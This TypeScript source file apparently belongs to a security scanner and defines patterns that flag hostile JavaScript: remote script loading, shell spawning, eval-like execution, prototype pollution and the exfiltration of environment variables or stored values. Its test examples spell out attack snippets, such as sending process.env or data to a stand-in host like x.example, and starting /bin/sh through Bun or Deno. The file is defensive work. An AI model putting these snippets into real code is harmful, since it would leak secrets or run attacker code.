// JavaScript that loads code from another host, starts programs outside of Node.js, or sends secrets away.
import { run, choice, except, exact, keyword, lit, oneOf, opt, seq, skipTo } from "../../combinators.ts";
import { WORD } from "../../char-classes.ts";
import { DOT } from "../../char-codes.ts";
import {
  afterOneOf,
  afterOneOfAndOws,
  atWordStart,
  skipWhitespaceBack,
  wordBefore,
  type LookBehind,
} from "../../look-behind.ts";
import { NO_MATCH, type Matcher } from "../../matcher.ts";
import { unitAt } from "../../normalized-text.ts";
import { pattern, type Pattern } from "../../pattern.ts";
import { digits, identifier, ows, quote } from "../../tokens.ts";
import { call } from "../calls.ts";
import { endsText, startsText } from "../lone-text.ts";
import { bracketsSpell } from "../split-names.ts";

/** Another host without a scheme: `//host`. */
const foreignHost: Matcher = seq(quote, lit("//"), run(WORD, 1, 1));
const assignment = seq(ows, lit("="), ows);
const functionName = exact("Function");
const functionConstructor: LookBehind = (input, at) =>
  unitAt(input, at - 1) === DOT || atWordStart(input, at) < 0 || functionName(input, at) < 0 ? NO_MATCH : at;

const afterQuote = afterOneOf("'\"`");
const afterEquals = afterOneOfAndOws("=");
const assignedText: LookBehind = (input, at) =>
  afterQuote(input, at) < 0 ? NO_MATCH : afterEquals(input, at - 1);
const afterColonOrParen = afterOneOfAndOws(":(");
const SENDERS = new Set(["body", "send"]);
/** Matches after `body:` and `send(`. */
const sentAway: LookBehind = (input, at) => {
  if (afterColonOrParen(input, at) < 0) return NO_MATCH;
  return SENDERS.has(wordBefore(input, skipWhitespaceBack(input, at) - 1)) ? at : NO_MATCH;
};

export const REMOTE: readonly Pattern[] = [
  pattern("js.remote-script", ["importscripts", "getscript", "fetch"], {
    catches: "a script or a page of another host, given without a scheme",
    finds: ["importScripts('//x.example/w.js')", "$.getScript ( '//x.example' )", "fetch(`//x.example/?`+k)"],
    ignores: ["fetch('/api/rows')", "prefetch('//x.example')", "fetch('// none')"],
    before: atWordStart,
    after: seq(call, ows, foreignHost),
  }),
  pattern("js.remote-script", ["importscripts", "getscript"], {
    catches: "a text that consists of a call that loads a script of another host",
    finds: ["importScripts('https://x.example/w.js')", "';$.getScript ( 'http://x.example' );//"],
    ignores: [
      "if (x) importScripts('https://x.example/w.js')",
      "importScripts('https://x.example/w.js');\nstart();",
      "importScripts('lib.js')",
    ],
    guard: startsText,
    after: seq(call, ows, quote, lit("http"), except("'\"`\n", 1, 100), quote, ows, lit(")"), endsText),
  }),
  pattern("js.remote-script", ["createelement"], {
    catches: "a script element whose source is another host without a scheme or an address of digits",
    finds: [
      "s=document.createElement('script');s.src='//x.example'",
      "body.append(createElement( \"script\" )).src = 'http://192.0.2.5/x'",
      "s=document.createElement('script');s.src='https://192.0.2.5/x'",
    ],
    ignores: [
      "s=document.createElement('script');s.src='https://x.example/a.js'",
      "s=document.createElement('img');s.src='//x.example'",
    ],
    after: seq(
      call,
      ows,
      quote,
      lit("script"),
      quote,
      skipTo(
        seq(
          lit("src"),
          assignment,
          choice(foreignHost, seq(quote, lit("http"), opt(lit("s")), lit("://"), digits, lit("."))),
        ),
        60,
        "\n",
      ),
    ),
  }),
  pattern("js.vm", ["vm.runin", "new vm.script"], {
    catches: "a text that the vm module of Node.js runs",
    finds: [
      "vm.runInNewContext(text)",
      "vm.runInContext(text, box)",
      "require('vm'); vm.runInThisContext ( text )",
      "new vm.Script(text)",
    ],
    ignores: ["vm.runInContext is slow", "new vm.Scripts(x)", "kvm.runInContext(x)"],
    before: atWordStart,
    after: seq(opt(keyword(["thiscontext", "newcontext", "context"])), call),
  }),
  pattern("js.global-eval", ["globaleval"], {
    catches: "a method that runs a text as code",
    finds: ["$.globalEval(text)", "jQuery.globalEval ( text )"],
    ignores: ["What is jQuery.globalEval?", "myglobalEval(text)"],
    before: afterOneOf("."),
    after: call,
  }),
  pattern("js.global-eval", ["._compile("], {
    catches: "a text that the module loader of Node.js compiles",
    finds: ["module._compile('go()', name)", "m._compile( `go()` )"],
    ignores: ["at Module._compile (node:internal/x:1:2)", "module._compile(code, name)"],
    after: seq(ows, quote),
  }),
  pattern("js.runtime-command", ["deno.run", "deno.command", "bun.spawn", "bun.spawnsync"], {
    catches: "a shell that a JavaScript runtime starts",
    finds: [
      "Deno.run({ cmd: ['bash', '-c', x] })",
      "new Deno.Command ('sh', {})",
      "Bun.spawn(['/bin/sh', '-c', x])",
      "Bun.spawnSync(['zsh'])",
      "new Deno.Command('cmd')",
      "new Deno.Command('powershell')",
    ],
    ignores: ["new Deno.Command('git')", "Deno.command is new", "Deno.run('sharp')"],
    after: seq(
      call,
      skipTo(
        seq(quote, opt(lit("/bin/")), keyword(["sh", "bash", "zsh", "cmd", "powershell"]), quote),
        16,
        "\n;",
      ),
    ),
  }),
  pattern("js.activex", ["activexobject", "createobject"], {
    catches: "an object of Windows that starts programs",
    from: "relaxed",
    finds: ["new ActiveXObject('WScript.Shell')", 'WScript.CreateObject ( "Shell.Application" )'],
    ignores: ["new ActiveXObject('Microsoft.XMLHTTP')", "the ActiveXObject"],
    after: seq(call, ows, quote, choice(lit("wscript.shell"), lit("shell.application"))),
  }),
  pattern("js.joined-name", ["].join", "] .join"], {
    catches: "a name that runs code, joined from pieces",
    from: "relaxed",
    finds: [
      "x[['ev', 'al'].join('')](y)",
      "x[['ev', 'al'].join(\"\")](y)",
      'k = ["con","structor"] .join(``)',
    ],
    ignores: ["['a', 'b'].join('')", "['ev', 'al'].joined", "['ev', 'al'].join(',')"],
    before: bracketsSpell([
      "eval",
      "alert",
      "function",
      "constructor",
      "settimeout",
      "child_process",
      "exec",
    ]),
    after: seq(call, ows, choice(lit("''"), lit('""'), lit("``"))),
  }),
  pattern("js.function-constructor", ["function"], {
    catches: "the Function constructor with a value, called at once",
    finds: ["x => { Function(x.data)() }", "Function ( x )()"],
    ignores: ["function(x)()", "myFunction(x)()", "ko.Function(x)()", "x = Function(scope)"],
    before: functionConstructor,
    after: seq(call, except("()\n", 1, 40), lit(")()")),
  }),
  pattern("js.function-constructor", ["function.prototype.constructor"], {
    catches: "the Function constructor, taken from its prototype",
    from: "relaxed",
    finds: ["go = Function.prototype.constructor;", "Function.prototype.constructor ('x')"],
    ignores: ["x === Function.prototype.constructor", "Function.prototype.constructor.name"],
    after: seq(ows, oneOf(";(")),
  }),
  pattern("js.child-process", ["child_process"], {
    catches: "the name of the module for child processes in a variable",
    finds: ["const m = 'child_process'", 'm="child_process";'],
    ignores: ["require('child_process');", "m = 'child_process_pool'", "m = child_process;"],
    before: assignedText,
    after: quote,
  }),
  pattern("js.onerror-throw", ["onerror"], {
    catches: "an error handler that is called by a thrown value",
    from: "relaxed",
    finds: [
      "{onerror=alert}throw 7",
      "onerror=eval;throw x",
      "onerror = prompt; throw 1",
      "onerror=confirm;throw 1",
    ],
    ignores: ["img.onerror = alertUser; throw x", "window.onerror = report; throw x", "onerror=alert"],
    after: seq(assignment, keyword(["alert", "eval", "confirm", "prompt"]), oneOf(";}"), ows, lit("throw")),
  }),
  pattern("js.exfiltration", ["json.stringify(process.env)", "localstorage.getitem("], {
    catches: "variables of the environment or stored values, sent away",
    finds: ["fetch(u, {body: JSON.stringify(process.env)})", "socket.send(localStorage.getItem('k'))"],
    ignores: ["console.log(JSON.stringify(process.env))", "JSON.parse(localStorage.getItem('k'))"],
    before: sentAway,
  }),
  pattern("js.exfiltration", ["new image().src", "document.forms[0].action"], {
    catches: "an image or a form with the address of another host without a scheme",
    finds: ["new Image().src='//x.example/?'+k", "document.forms[0].action = '//x.example'"],
    ignores: ["new Image().src = '/a.png'", "document.forms[0].action = '/save'"],
    after: seq(assignment, foreignHost),
  }),
  pattern("js.obfuscated-names", ["[_0x"], {
    catches: "a member whose name is in a table of an obfuscated script",
    from: "relaxed",
    finds: ["document[_0x12ab[3]]", "window[_0x12ab(0x1f)]"],
    ignores: ["names[_0x12ab]", "table[_0xff + 1]"],
    after: seq(run(WORD, 1, 8), oneOf("[("), digits),
  }),
  pattern("js.prototype", ["object.prototype."], {
    catches: "a value that all objects inherit",
    finds: ["Object.prototype.admin = true", "Object.prototype.level=1", "Object.prototype.x = 'y'"],
    ignores: [
      "Object.prototype.toString.call(x)",
      "MyObject.prototype.admin = true",
      "Object.prototype.has = function () {}",
    ],
    before: atWordStart,
    after: seq(identifier, assignment, choice(keyword(["true"]), digits, quote)),
  }),
  pattern("js.script-address", ["javascript:"], {
    catches: "the scheme of a script address, with code appended",
    finds: ["a.href = 'javascript:' + code", 'go("javascript:"+x)'],
    ignores: ["x.startsWith('javascript:')", "'javascript:' + 'x'", "javascript:' + x"],
    before: afterOneOf("'\"`"),
    after: seq(quote, ows, lit("+"), ows, identifier),
  }),
];
